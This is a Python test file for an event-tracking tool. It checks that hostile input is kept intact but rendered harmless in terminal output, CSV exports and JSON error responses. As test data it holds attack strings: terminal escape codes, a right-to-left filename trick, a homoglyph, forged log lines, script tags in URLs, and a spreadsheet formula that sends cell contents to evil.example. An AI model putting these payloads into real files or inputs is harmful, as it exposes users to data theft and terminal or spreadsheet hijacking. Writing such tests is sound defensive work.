"""What attackers send is kept as it is, and inert wherever it is printed: the command line, exports, answers."""

import csv
import json
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.running import Running, SiteOf, make_event
from trackway.commands.plain import plain

CLEAR = "\x1b[2J\x1b]0;owned\x07"
REORDER = "\u202egpj.exe"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
HOMOGLYPH = "p\u0430ge.visit"
FORGED = "\nAll is well.\n"
CONTROLS = ("\x1b", "\x07", "\u202e", "\r")


@pytest.fixture(scope="module")
def attacked(shared: Running) -> tuple[SiteOf, dict[str, Any], dict[str, Any]]:
    """A site with an event that is stored and one that is refused, both hostile."""
    site = shared.add_site()
    stored = make_event(
        action="evil.stored", label=f"{CLEAR}{REORDER}{FORGED}", params={"formula": FORMULA, CLEAR: CLEAR}
    )
    refused = make_event(action=f"{HOMOGLYPH}{CLEAR}", params={"x": CLEAR})
    shared.collect({"key": site.key, "events": [stored, refused]})
    shared.settled(site.id, 2)
    return site, stored, refused


def test_what_came_is_kept_to_the_letter(
    shared: Running, attacked: tuple[SiteOf, dict[str, Any], dict[str, Any]]
) -> None:
    site, stored, _ = attacked

    (event,) = shared.events(site.id, action="evil.stored")

    assert (event["label"], event["params"]) == (stored["label"], stored["params"])


def test_a_terminal_is_told_and_not_ruled(
    shared: Running, attacked: tuple[SiteOf, dict[str, Any], dict[str, Any]], tmp_path: Path
) -> None:
    site, stored, refused = attacked
    plan, events = tmp_path / "plan.yaml", tmp_path / "events.ndjson"
    plan.write_text("definitions: {}\n")
    events.write_text(json.dumps(refused) + "\n")

    said = {
        "doctor": shared.command("doctor", stored["id"]),
        "doctor refused": shared.command("doctor", refused["id"]),
        "quarantine": shared.command("quarantine", "list", "--site", site.id),
        "erase": shared.command("erase", "--site", site.id, "--customer", CLEAR, check=False),
        "preview": shared.command("rules", "preview", site.id, "--deny", "evil.*"),
        "check": shared.command("plan", "check", str(plan), str(events), check=False),
        "import": shared.command("import", str(events), "--site", site.id, "--dry-run", check=False),
    }

    for name, done in said.items():
        assert not [sign for sign in CONTROLS if sign in done.stdout + done.stderr], name
    assert "\\x1b[2J" in said["doctor"].stdout
    assert "All is well." not in said["doctor"].stdout.splitlines()
    assert "p\\u0430ge.visit" in said["quarantine"].stdout


def test_a_spreadsheet_gets_no_formula(
    shared: Running, attacked: tuple[SiteOf, dict[str, Any], dict[str, Any]], tmp_path: Path
) -> None:
    site, _, _ = attacked
    file = tmp_path / "events.csv"

    shared.command("export", "--site", site.id, "-o", str(file))
    with file.open(encoding="utf-8", newline="") as lines:
        cells = [cell for line in csv.reader(lines) for cell in line]

    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any("HYPERLINK" in cell for cell in cells)


def test_ten_megabytes_are_refused_and_cost_nothing_more(shared: Running) -> None:
    site, big = shared.add_site(), "x" * (10 * 1024 * 1024)

    public = shared.collect({"key": site.key, "events": [make_event(params={"x": big})]})
    server = httpx.post(
        f"{shared.url}/api/v1/events",
        json=[make_event(params={"x": big})],
        headers={"authorization": f"Bearer {site.write}"},
        timeout=60,
    )
    one = shared.collect({"key": site.key, "events": [make_event(params={"x": "x" * 40_000})]}).json()

    assert {(answer.status_code, answer.json()["error"]["code"]) for answer in (public, server)} == {
        (413, "body_too_large")
    }
    assert one["rejected"][0]["code"] == "params_too_large"
    assert shared.settled(site.id, 1)["received"] == 1


def test_answers_are_json_whatever_is_in_them(
    shared: Running, attacked: tuple[SiteOf, dict[str, Any], dict[str, Any]]
) -> None:
    site, _, _ = attacked
    script = f"<script>{uuid.uuid4()}</script>"

    with shared.client() as client:
        for path in (f"/api/v1/sites/{script}", f"/api/v1/sites/{site.id}/events/{script}", f"/api/v1/{script}"):
            answer = client.get(path)

            assert answer.status_code in (400, 404)
            assert answer.headers["content-type"].startswith("application/json")
            assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Zoë paid 5 €", "Zoë paid 5 €"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("one\ntwo\r", "one\\ntwo\\r"),
        ("\u202eabc\u2066", "\\u202eabc\\u2066"),
        ("\x9b", "\\x9b"),
    ],
)
def test_plain_text_shows_what_is_no_letter(text: str, shown: str) -> None:
    assert plain(text) == shown
